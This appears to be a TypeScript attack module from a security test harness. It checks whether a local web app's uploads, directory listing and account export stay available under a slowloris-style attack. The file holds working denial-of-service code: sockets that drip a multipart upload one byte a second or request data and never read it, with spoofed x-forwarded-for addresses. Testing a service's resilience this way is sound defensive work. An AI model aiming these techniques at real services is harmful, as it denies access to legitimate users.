import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import sharp from 'sharp'
import { addUp, type Attack, type Outcome, type Target } from './attack.ts'
import { fillBrands } from './fill.ts'
import type { Person } from './person.ts'

/** Honest callers follow Retry-After for this long. */
const patienceMs = 60_000

/** Slow uploads and unread downloads that try to occupy every slot. */
export const slowPeers: Attack = {
  name: 'slow-peers',
  finding: 8,
  isThrough: `While slow senders and readers hold on, an honest upload, download or export does not succeed within ${patienceMs / 1000} s.`,
  setUp: async (target) => {
    const [brand] = await target.takeBrands(1)
    const keeper = await target.meetMember({ ageDays: 60 })
    await fillBrands(target.database, { count: 5000, prefix: keeper.username, userId: keeper.id })
    const uploader = await target.meetMember({ ageDays: 60 })
    const photo = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#468' } })
      .png()
      .toBuffer()
    const path = `/api/brands/${brand?.id}/upload`
    return async () =>
      addUp({
        'dripping uploads': await hold({
          slow: Array.from({ length: 24 }, (_, index) => drip(target, path, `198.18.8.${1 + (index % 3)}`)),
          honest: () => uploader.upload(path, { field: 'photo', name: 'tag.png', type: 'image/png', bytes: photo }),
        }),
        'slow readers of the directory': await hold({
          slow: Array.from({ length: 4 }, (_, index) =>
            stall(target.meet(`198.18.8.${10 + (index % 2)}`), '/api/brands'),
          ),
          honest: () => target.meet().get('/api/brands'),
        }),
        'slow readers of the export': await hold({
          slow: Array.from({ length: 4 }, () => stall(keeper, '/api/account/export')),
          honest: () => uploader.get('/api/account/export'),
        }),
      })
  },
}

async function hold({ slow, honest }: { slow: Socket[]; honest: () => Promise<{ status: number }> }): Promise<Outcome> {
  await pause(3000)
  const started = performance.now()
  let status = 0
  while (performance.now() - started < patienceMs && status !== 200) {
    const left = patienceMs - (performance.now() - started)
    const late = pause(left).then(() => ({ status: 0 }))
    status = (await Promise.race([honest(), late])).status
    if (status !== 200) await pause(Math.min(5000, left))
  }
  const seconds = Math.round((performance.now() - started) / 100) / 10
  for (const socket of slow) socket.destroy()
  const isThrough = status !== 200
  return {
    tried: slow.length,
    through: isThrough ? 1 : 0,
    notes: [isThrough ? `the honest call got ${status} to the end` : `the honest call took ${seconds} s`],
  }
}

function open(site: string): Socket {
  const { port } = new URL(site)
  const socket = connect({ host: 'localhost', port: Number(port) })
  // It is meant to be cut off.
  socket.on('error', () => {})
  return socket
}

/** Sends a form a byte a second. */
function drip({ url }: Target, path: string, network: string): Socket {
  const socket = open(url)
  const boundary = 'x'.repeat(30)
  const head = `--${boundary}\r\ncontent-disposition: form-data; name="photo"; filename="tag.png"\r\ncontent-type: image/png\r\n\r\n`
  socket.write(
    `POST ${path} HTTP/1.1\r\nhost: localhost\r\norigin: ${url}\r\nx-forwarded-for: ${network}\r\n` +
      `content-type: multipart/form-data; boundary=${boundary}\r\ncontent-length: 1000000\r\n\r\n${head}`,
  )
  const timer = setInterval(() => socket.write('x'), 1000)
  socket.on('close', () => clearInterval(timer))
  return socket
}

/** Requests a long answer and reads none of it. */
function stall(person: Person, path: string): Socket {
  const socket = open(person.site)
  socket.pause()
  const lines = Object.entries(person.headers).map(([name, value]) => `${name}: ${value}\r\n`)
  socket.write(`GET ${path} HTTP/1.1\r\nhost: localhost\r\n${lines.join('')}\r\n`)
  return socket
}
